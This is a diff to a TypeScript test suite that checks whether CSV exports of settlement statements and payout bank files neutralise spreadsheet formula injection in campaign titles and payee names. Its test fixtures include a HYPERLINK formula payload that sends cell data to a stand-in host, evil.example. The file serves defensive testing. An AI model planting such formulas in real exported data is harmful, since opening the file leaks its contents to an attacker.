@@ -1,6 +1,7 @@
 import type { RouteDef } from '../../src/platform/http';
 import { aConsumer, aFactory } from '../support/builders';
-import { anOpenCampaign, paidPledge } from '../support/campaigns';
+import { anOpenCampaign, paidPledge, payBalance } from '../support/campaigns';
+import { runDue } from '../support/clock';
 import { buildWorld, type World } from './support/fuzz-world';
 
 /**
@@ -16,7 +17,7 @@ afterAll(() => w?.close());
 
 const nameOf = (r: RouteDef) => `${r.method} ${r.path}`;
 /** The exports known to answer CSV; the first test fails when another route starts to. */
-const CSV_EXPORTS = ['get /v1/factory/forecast-batches/:id'];
+const CSV_EXPORTS = ['get /v1/factory/forecast-batches/:id', 'get /v1/statements', 'get /v1/statements/:id/entries', 'get /v1/payout-batches/:id/bank-file'];
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
@@ -43,6 +44,9 @@ describe('CSV exports', () => {
       payments: w.alice.unpaidPaymentId,
       subscriptions: w.alice.subscriptionId,
       'forecast-batches': w.a.batchId,
+      statements: w.settlement.statementA,
+      payouts: w.settlement.payoutA,
+      'payout-batches': w.settlement.batchId,
     };
     const answeringCsv: string[] = [];
     for (const r of w.t.app.routes.filter((route) => route.method === 'get')) {
@@ -80,6 +84,43 @@ describe('CSV exports', () => {
       expect(formulas).toEqual([]);
       for (const title of HOSTILE) expect(cells).toContain(`'${title}`);
       expect(cells).toContain('-2');
+    }
+  });
+
+  test('settlement statements and the bank file: campaign titles and payee names that start like a formula are neutralised, amounts (negative too) left alone', async () => {
+    const { t, operator, clock } = w;
+    const factory = await aFactory(t, operator);
+    for (const title of HOSTILE.slice(0, 2)) {
+      const consumer = await aConsumer(t);
+      const c = await anOpenCampaign(t, operator, factory.id, clock, { title, tiers: [{ minUnits: 1, unitPrice: '899.00' }] });
+      const bought = await paidPledge(t, consumer, c.id, { colour: 'black', size: 'M' }, 1);
+      await t.http.post(`/v1/campaigns/${c.id}/close`).set(operator.auth).expect(200);
+      await runDue(t, clock);
+      await payBalance(t, consumer, bought.id);
+      await runDue(t, clock);
+    }
+    await t.http
+      .put(`/v1/factories/${factory.id}/payee`)
+      .set(operator.auth)
+      .send({ accountName: HOSTILE[2], accountNumber: '6222020200112233445', bankName: HOSTILE[3], bankCode: '102331000013' })
+      .expect(200);
+    const statements = await t.http.get('/v1/statements?format=csv').set(factory.user.auth).expect(200);
+    const batch = await t.http.post('/v1/payout-batches').set(operator.auth).set('Idempotency-Key', `csv-${factory.id}`).expect(201);
+    await t.http
+      .post(`/v1/payout-batches/${batch.body.id}/approve`)
+      .set(operator.auth)
+      .set('Idempotency-Key', `csv-approve-${factory.id}`)
+      .send({ method: 'bank_file' })
+      .expect(200);
+    await runDue(t, clock);
+    const file = await t.http.get(`/v1/payout-batches/${batch.body.id}/bank-file`).set(operator.auth).expect(200);
+    for (const [res, expected] of [
+      [statements, HOSTILE.slice(0, 2)],
+      [file, HOSTILE.slice(2, 4)],
+    ] as const) {
+      const cells = parseCsv(res.text.replace(/^\uFEFF/, '')).flat();
+      expect(cells.filter((cell) => FORMULA_START.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
+      for (const name of expected) expect(cells).toContain(`'${name}`);
     }
   });
 });
